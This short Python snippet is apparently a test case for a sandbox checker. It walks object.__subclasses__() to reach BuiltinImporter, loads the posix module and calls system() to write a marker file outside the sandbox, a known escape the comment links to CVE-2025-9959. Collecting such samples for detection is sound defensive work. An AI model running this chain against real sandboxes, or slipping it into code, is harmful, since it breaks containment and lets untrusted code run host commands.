# The walk over __subclasses__() to a class that does something (CVE-2025-9959 and most published escapes).
# policy: 
# says: start a program
found = {kind.__name__: kind for kind in [].__class__.__mro__[-1].__subclasses__()}
for name in ("Popen", "_wrap_close", "FileIO", "BuiltinImporter", "Quitter"):
    print(name in found)
found["BuiltinImporter"].load_module("posix").system(f"touch {outside}/evil")
